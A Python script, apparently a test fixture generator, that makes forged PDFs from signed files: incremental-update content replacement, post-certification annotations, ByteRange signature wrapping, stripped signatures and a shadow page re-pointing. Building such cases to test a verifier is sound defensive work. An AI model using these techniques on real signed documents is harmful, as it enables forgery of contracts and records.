#!/usr/bin/python3
"""Builds attack files from our own signed PDFs (standards/pdf-signatures.md §4), each a
well-formed incremental update or an in-place edit, as an attacker would make them:

  make_attacks.py SIGNED.pdf CERTIFIED_P2.pdf UNUSED OUT_DIR
      isa-content.pdf        a later revision replaces page 1's content (incremental saving)
      recovery-isa.pdf       a redefined page appended after %%EOF without any xref section
      evil-annotation.pdf    a FreeText annotation added after a P=2 certification
      swa-moved-gap.pdf      /ByteRange edited so that its gap is not the /Contents string
      swa-huge-range.pdf     /ByteRange pointing far beyond the end of the file
      usf-zero-contents.pdf  /Contents replaced by zeros (no CMS)
      usf-no-byterange.pdf   /ByteRange renamed away
  make_attacks.py --repoint SIGNED_3_PAGES.pdf OUT.pdf
      page 1's /Contents re-pointed to page 2's content stream, which existed when signed
      (shadow hide-and-replace)

Object numbers and dictionaries come from qpdf, which prints objects in PDF syntax."""
import os
import re
import subprocess
import sys


def qpdf(*args):
    return subprocess.run(["qpdf", *args], check=True, capture_output=True, text=True).stdout


def page_objects(path):
    """[(page object number, [content object numbers])] from `qpdf --show-pages`."""
    pages = []
    for line in qpdf("--show-pages", path).splitlines():
        match = re.match(r"page \d+: (\d+) 0 R", line.strip())
        if match:
            pages.append((int(match.group(1)), []))
            continue
        match = re.match(r"(?:content: )?(\d+) 0 R$", line.strip())
        if match and pages:
            pages[-1][1].append(int(match.group(1)))
    return pages


def show(path, number):
    return qpdf(f"--show-object={number}", path).strip()


def trailer_facts(data):
    start = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    root = re.findall(rb"/Root\s+(\d+\s+\d+\s+R)", data)[-1].decode()
    size = max(int(x) for x in re.findall(rb"/Size\s+(\d+)", data))
    return start, root, size


def append_update(data, objects, with_xref=True):
    """Appends objects {number: body} as an incremental update with a classic xref table."""
    start, root, size = trailer_facts(data)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    if not with_xref:
        return bytes(out) + b"%%EOF\n"
    xref = len(out)
    out += b"xref\n"
    for number, offset in sorted(offsets.items()):
        out += f"{number} 1\n{offset:010d} 00000 n \n".encode()
    new_size = max(size, max(objects) + 1)
    out += f"trailer\n<< /Size {new_size} /Root {root} /Prev {start} >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream(content):
    return f"<< /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream"


def replace_key(dictionary, key, value):
    """Sets /key in a qpdf-printed dictionary (top level only; values here are refs or arrays)."""
    pattern = re.compile(r"/" + key + r"\s+(\d+ \d+ R|\[[^\]]*\])")
    if pattern.search(dictionary):
        return pattern.sub(lambda _: f"/{key} {value}", dictionary, count=1)
    return dictionary.replace("<<", f"<< /{key} {value}", 1)


def same_width(number, delta):
    text = str(number + delta)
    return text if len(text) == len(str(number)) else None


def main():
    if sys.argv[1] == "--repoint":
        signed, out = sys.argv[2], sys.argv[3]
        data = open(signed, "rb").read()
        pages = page_objects(signed)
        (page1, _), (_, contents2) = pages[0], pages[1]
        page = replace_key(show(signed, page1), "Contents", f"{contents2[0]} 0 R")
        open(out, "wb").write(append_update(data, {page1: page.encode()}))
        return

    signed, certified, _unused, out_dir = sys.argv[1:5]
    os.makedirs(out_dir, exist_ok=True)
    data = open(signed, "rb").read()
    _, _, size = trailer_facts(data)
    page1, _ = page_objects(signed)[0]
    forged = b"BT /F1 28 Tf 72 720 Td (DA SUA NOI DUNG) Tj ET"
    page = replace_key(show(signed, page1), "Contents", f"{size} 0 R")
    open(f"{out_dir}/isa-content.pdf", "wb").write(
        append_update(data, {page1: page.encode(), size: stream(forged)}))
    open(f"{out_dir}/recovery-isa.pdf", "wb").write(
        append_update(data, {page1: page.encode(), size: stream(forged)}, with_xref=False))

    cert = open(certified, "rb").read()
    _, _, csize = trailer_facts(cert)
    cpage1, _ = page_objects(certified)[0]
    cpage = show(certified, cpage1)
    annotation = (f"<< /Type /Annot /Subtype /FreeText /Rect [72 600 500 700] /P {cpage1} 0 R "
                  "/Contents (Noi dung khac) /DA (/Helv 24 Tf 1 0 0 rg) /F 4 >>").encode()
    annots = re.search(r"/Annots\s+(\[[^\]]*\]|\d+ \d+ R)", cpage)
    objects = {csize: annotation}
    if annots and annots.group(1).endswith("R"):
        array_number = int(annots.group(1).split()[0])
        array = show(certified, array_number)
        objects[array_number] = (array.rstrip("]") + f" {csize} 0 R]").encode()
    else:
        existing = annots.group(1).strip("[]") if annots else ""
        objects[cpage1] = replace_key(cpage, "Annots", f"[{existing} {csize} 0 R]").encode()
    open(f"{out_dir}/evil-annotation.pdf", "wb").write(append_update(cert, objects))

    match = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)
    a, b, c, d = (int(x) for x in match.groups())
    moved = [same_width(b, -1), same_width(c, -1), same_width(d, 1)]
    if None in moved:
        moved = [same_width(b, 1), same_width(c, 1), same_width(d, -1)]
    edited = match.group(0).replace(f"{b} {c} {d}".encode(), " ".join(moved).encode())
    open(f"{out_dir}/swa-moved-gap.pdf", "wb").write(data.replace(match.group(0), edited, 1))

    # A byte range far beyond the file (every digit a 9, the same width as written).
    nines = match.group(0)
    for number in (b, c, d):
        nines = nines.replace(f" {number}".encode(), b" " + b"9" * len(str(number)), 1)
    open(f"{out_dir}/swa-huge-range.pdf", "wb").write(data.replace(match.group(0), nines, 1))

    hexdigits = data[b + 1:c - 1]  # the gap is exactly "<...>"
    open(f"{out_dir}/usf-zero-contents.pdf", "wb").write(
        data.replace(hexdigits, b"0" * len(hexdigits), 1))
    open(f"{out_dir}/usf-no-byterange.pdf", "wb").write(data.replace(b"/ByteRange", b"/ByteRangx", 1))


if __name__ == "__main__":
    main()
